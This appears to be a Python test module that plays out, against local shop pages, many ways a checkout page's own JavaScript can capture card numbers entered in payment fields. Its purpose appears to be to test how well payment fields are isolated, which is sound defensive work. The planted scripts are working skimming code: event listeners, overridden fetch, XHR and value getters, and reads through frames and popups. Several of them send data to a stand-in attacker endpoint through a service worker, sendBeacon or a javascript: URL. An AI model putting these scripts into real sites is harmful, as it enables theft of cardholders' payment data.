"""Scripts of the page's own: listeners, overridden functions, workers, other windows."""

import json

from attacks import VALUES, attack


@attack()
def evaluate_values(a):
    """Reads every value in the page and its frames with Runtime.evaluate, before and after Pay."""
    a.open()
    a.fill()
    a.look_everywhere()
    a.pay()
    a.look_everywhere()


@attack("plain_post", "xhr_form")
def form_data(a):
    """new FormData of every form."""
    a.open()
    a.fill()
    a.look("JSON.stringify([...document.forms].map(f => { const all = []; for (const i of f.elements) all.push([i.name, i.value]);"
           "return [all, [...new FormData(f)]]; }))")
    a.pay()


@attack("controlled")
def react_state(a):
    """The state object that controlled inputs keep."""
    a.open()
    a.fill()
    a.look("JSON.stringify(window.appState)")
    a.pay()
    a.look("JSON.stringify(window.appState)")


LISTEN = "for (const kind of ['input', 'change', 'blur', 'keydown', 'beforeinput', 'focusout', 'paste', 'textInput']) " \
         "addEventListener(kind, e => { const t = e.composedPath()[0]; out(kind + ' ' + (t.value || t.textContent) + ' ' + (e.data || '') + (e.key || '')); }, true);"


@attack()
def listeners_before(a):
    """Capturing listeners that were there before the form was."""
    a.open(plant=LISTEN)
    a.fill()
    a.pay()
    a.look("JSON.stringify(window.loot)")


@attack("shadow_open")
def listeners_through_shadow_roots(a):
    """composedPath() of events from open shadow roots."""
    a.open(plant=LISTEN)
    a.fill()
    a.pay()


@attack("shadow_closed")
def closed_shadow_roots_opened(a):
    """attachShadow is replaced, so that closed roots are open."""
    a.open(plant="const old = Element.prototype.attachShadow; Element.prototype.attachShadow = function () { return old.call(this, {mode: 'open'}); };")
    a.fill()
    a.look()
    a.pay()
    a.look()


@attack("masked", "plain_post", "payment_element")
def polling_and_mutations(a):
    """A MutationObserver and an animation frame that read all values all the time."""
    a.open(plant="const read = () => { const v = %s; if (v !== window.last) out(window.last = v); };"
                 "new MutationObserver(read).observe(document, {subtree: true, childList: true, attributes: true, characterData: true});"
                 "(function each() { try { read(); } catch (e) { } requestAnimationFrame(each); })(); setInterval(() => { try { read(); } catch (e) { } }, 5);" % VALUES)
    a.fill()
    a.pay()


@attack("masked", "accept", "payment_element", "elements_three")
def override_fetch(a):
    """window.fetch tells the body before it sends it."""
    control = "const old = window.fetch; window.fetch = function (u, o) { out(String(u) + JSON.stringify(o)); return old.apply(this, arguments); };"
    a.open(plant=control)
    if a.strength == "dom":  # there the frames can be attached to
        for session in a.frames():
            a.look(a.beacon() + control, session)
    a.fill()
    a.pay()


@attack("xhr_form")
def override_xhr(a):
    """XMLHttpRequest.prototype.send tells the body."""
    a.open(plant="const old = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { out(b); return old.apply(this, arguments); };")
    a.fill()
    a.pay()


@attack("masked")
def override_json_stringify(a):
    """JSON.stringify tells what it makes."""
    a.open(plant="const old = JSON.stringify; JSON.stringify = function () { const s = old.apply(this, arguments); out(s); return s; };")
    a.fill()
    a.pay()


@attack("masked", "model")
def value_getter(a):
    """The getter and setter of HTMLInputElement.prototype.value are replaced."""
    a.open(plant="const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');"
                 "Object.defineProperty(HTMLInputElement.prototype, 'value', {configurable: true, enumerable: true,"
                 "get() { const v = d.get.call(this); out(v); return v; }, set(v) { out(v); d.set.call(this, v); }});")
    a.fill()
    a.pay()


@attack("masked", "xhr_form")
def string_methods(a):
    """String.prototype.replace, slice and trim, which formatting code calls, tell what they work on."""
    a.open(plant="for (const n of ['replace', 'slice', 'trim', 'match', 'split']) { const old = String.prototype[n]; const push = Array.prototype.push;"
                 "String.prototype[n] = function () { if (this.length > 12) loot[loot.length] = '' + this; return old.apply(this, arguments); }; }")
    a.fill()
    a.pay()
    a.look("JSON.stringify(window.loot)")


@attack("xhr_form")
def regexp_and_object_prototype(a):
    """RegExp.prototype.exec and a setter on Object.prototype for the names that card objects have."""
    a.open(plant="for (const n of ['number', 'card', 'cardNumber']) Object.defineProperty(Object.prototype, n, {configurable: true,"
                 "set(v) { out(n + JSON.stringify(v)); Object.defineProperty(this, n, {value: v, writable: true, enumerable: true, configurable: true}); }});"
                 "const old = RegExp.prototype.exec; RegExp.prototype.exec = function (s) { if (String(s).length > 12) out(s); return old.apply(this, arguments); };"
                 "setInterval(() => { const i = document.querySelector('input'); if (i && i.value) /x/.exec(i.value); }, 20);")
    a.fill()
    a.pay()


@attack()
def console_and_binding(a):
    """Values told with console.log and a Runtime.addBinding function, heard as events."""
    a.open(plant="setInterval(() => { const v = %s; console.log(v); if (window.tellme) tellme(v); }, 30);" % VALUES)
    a.ask(a.page.session, "Runtime.enable")
    a.ask(a.page.session, "Runtime.addBinding", name="tellme")
    a.fill()
    a.look("new Promise(r => setTimeout(r, 100))")
    a.pay()


@attack("masked")
def service_worker(a):
    """A service worker of the shop's origin sees every request of the page, also to the processor."""
    a.sites.pages["shop", "/sw.js"] = (200, "text/javascript", (
        "addEventListener('install', () => skipWaiting()); addEventListener('activate', e => e.waitUntil(clients.claim()));"
        "addEventListener('fetch', e => { if (e.request.method === 'POST' && !e.request.url.includes('/take')) e.respondWith((async () => {"
        "const copy = e.request.clone(); const body = await copy.text(); await fetch('%s/take', {method: 'POST', mode: 'no-cors', body: body});"
        "return fetch(e.request); })()); });" % a.evil).encode())

    def undo():
        fresh = a.browser.open(a.sites.origin("shop") + "/thanks")
        fresh.evaluate("navigator.serviceWorker.getRegistrations().then(all => Promise.all(all.map(r => r.unregister())))")
        fresh.close()
    a.undo.append(undo)
    page = a.open()
    a.look("navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)"
           ".then(() => new Promise(r => navigator.serviceWorker.controller ? r() : (navigator.serviceWorker.oncontrollerchange = r))).then(() => 1)")
    page.session.wait_for("!!navigator.serviceWorker.controller")
    a.fill()
    a.pay()


@attack("plain_post", "xhr_form")
def unload_beacon(a):
    """A beacon with all values when the page is left."""
    a.open(plant="for (const kind of ['beforeunload', 'pagehide', 'unload', 'visibilitychange']) addEventListener(kind, () => out(%s));" % VALUES)
    a.fill()
    a.pay()
    a.ask(a.page.session, "Page.navigate", url=a.sites.origin("shop") + "/thanks")


@attack("xhr_form", "payment_element")
def opener_reads_popup(a):
    """Another page of the shop opens the checkout and reads it through the window it got."""
    a.sites.pages["shop", "/opener"] = "<!doctype html><title>x</title><button>x</button>"
    opener = a.browser.open(a.sites.origin("shop") + "/opener")
    a.undo.append(opener.close)
    before = {info["targetId"] for info in a.browser.targets()}
    a.ask(opener, "Runtime.evaluate", expression="window.w = window.open('%s'); 1" % a.site.url, userGesture=True)
    from support.checkout import Page, wait_for
    new = wait_for(lambda: [i for i in a.browser.targets() if i["targetId"] not in before and i["type"] == "page" and "about:" not in i["url"]], 5)
    session = a.browser.attach(new[0]["targetId"])
    session.wait_for("window.ready")
    from support.checkout import where_is
    a.page = Page(session, a.site, a.began)
    a.page.pay_at = where_is(session, "#pay")
    a.pages.append(a.page)
    read = "(() => { const document = w.document; return %s; })()" % VALUES
    a.look(read, opener)
    a.fill()
    a.look(read, opener)
    a.look("(() => { const out = []; for (let i = 0; i < w.frames.length; ++i) { try { out.push([...w.frames[i].document.querySelectorAll('input')].map(i => i.value)); }"
           " catch (e) { out.push(String(e)); } } return JSON.stringify(out); })()", opener)
    a.pay()
    a.look(read, opener)


@attack("xhr_form", "payment_element")
def frame_that_copies(a):
    """A frame of the same origin, put into the page, reads its parent and all its siblings."""
    a.sites.pages["shop", "/copier"] = (
        "<!doctype html><script>setInterval(() => { const d = parent.document; const v = [...d.querySelectorAll('input')].map(i => i.value);"
        "for (let i = 0; i < parent.frames.length; ++i) { try { v.push(...[...parent.frames[i].document.querySelectorAll('input')].map(i => i.value)); } catch (e) { } }"
        "navigator.sendBeacon('%s/take', v.join('|')); }, 40)</script>" % a.evil)
    a.open()
    a.look("(() => { const f = document.createElement('iframe'); f.src = '/copier'; f.width = f.height = 10; document.body.append(f); })()")
    a.fill()
    a.look("new Promise(r => setTimeout(r, 150))")
    a.pay()



@attack("xhr_form")
def broadcast_to_another_tab(a):
    """A planted script tells a second tab of the shop over a BroadcastChannel and shared storage."""
    other = a.browser.open(a.sites.origin("shop") + "/thanks")
    a.undo.append(other.close)
    other.evaluate("window.heard = []; new BroadcastChannel('x').onmessage = e => heard.push(e.data); 1")
    a.open(plant="setInterval(() => { const v = %s; new BroadcastChannel('x').postMessage(v); localStorage.setItem('x', v); }, 30);" % VALUES)
    a.fill()
    a.look("new Promise(r => setTimeout(r, 100))", other)
    a.look("JSON.stringify(heard) + localStorage.x", other)
    a.pay()
    a.look("JSON.stringify(heard) + localStorage.x; ", other)
    a.look("localStorage.clear()", other)


@attack("xhr_form", "payment_element", control=False)
def focus_stealer(a):
    """The shop's page takes the focus into a field of its own while the card is typed, and tells what arrives there."""
    a.open(plant="addEventListener('load', () => { const i = document.createElement('input'); i.id = 'thief'; i.setAttribute('aria-hidden', 'true'); document.body.append(i);"
                 "setInterval(() => { i.focus(); if (i.value) out(i.value); }, 1); });")
    a.fill()
    a.look("document.getElementById('thief').value")
    a.pay()



@attack("xhr_form")
def javascript_url(a):
    """Page.navigate to a javascript: URL that tells all values."""
    a.open()
    a.fill()
    a.ask(a.page.session, "Page.navigate", url="javascript:navigator.sendBeacon('%s/take', %s)" % (a.evil, VALUES.replace("\n", " ")))
    a.look("new Promise(r => setTimeout(r, 50))")
    a.pay()


@attack("xhr_form")
def download_of_values(a):
    """A planted script saves the values as a download; the agent reads the file."""
    import os
    import tempfile
    folder = tempfile.mkdtemp(prefix="pv-down-", dir=a.checkout.home.tmp)
    a.open()
    a.ask(a.page.session, "Page.setDownloadBehavior", behavior="allow", downloadPath=folder)
    try:
        a.browser.call("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": folder})
    except Exception as error:
        a.refusals.append(str(error)[:80])
    a.fill()
    a.look("(() => { const l = document.createElement('a'); l.download = 'x.txt'; l.href = URL.createObjectURL(new Blob([%s])); document.body.append(l); l.click(); })()" % VALUES,
           userGesture=True)
    a.look("new Promise(r => setTimeout(r, 400))")
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), "rb") as file:
            a.see(file.read())
    a.pay()


@attack("xhr_form")
def title_and_address(a):
    """A planted script writes the values into title and fragment; Target.getTargets and events tell them."""
    watcher = a.client()
    try:
        watcher.call("Target.setDiscoverTargets", {"discover": True})
    except Exception as error:
        a.refusals.append(str(error)[:80])
    a.open(plant="setInterval(() => { const v = %s; if (v.length > 12) { document.title = v; history.replaceState(0, '', '#' + encodeURIComponent(v)); } }, 30);" % VALUES)
    a.fill()
    a.look("new Promise(r => setTimeout(r, 120))")
    watcher.call("Target.getTargets")
    a.ask(a.page.session, "Page.getNavigationHistory")
    a.pay()
    watcher.call("Target.getTargets")


@attack("plain_post")
def form_turned_into_get(a):
    """The form's method becomes GET, so that the number stands in the address."""
    a.open(plant="addEventListener('submit', e => { e.target.method = 'get'; }, true); addEventListener('load', () => document.forms[0].method = 'get');")
    a.ask(a.page.session, "Network.enable")
    a.fill()
    a.pay()
    a.look("location.href")


@attack("controlled", "xhr_form")
def error_objects_and_promises(a):
    """Planted code throws an error with the values in it; exceptions and unhandled rejections are told as events."""
    a.open(plant="setInterval(() => { Promise.reject(new Error(%s)); setTimeout(() => { throw new Error(%s); }); }, 50);" % (VALUES, VALUES))
    a.ask(a.page.session, "Runtime.enable")
    a.ask(a.page.session, "Log.enable")
    a.fill()
    a.look("new Promise(r => setTimeout(r, 120))")
    a.pay()
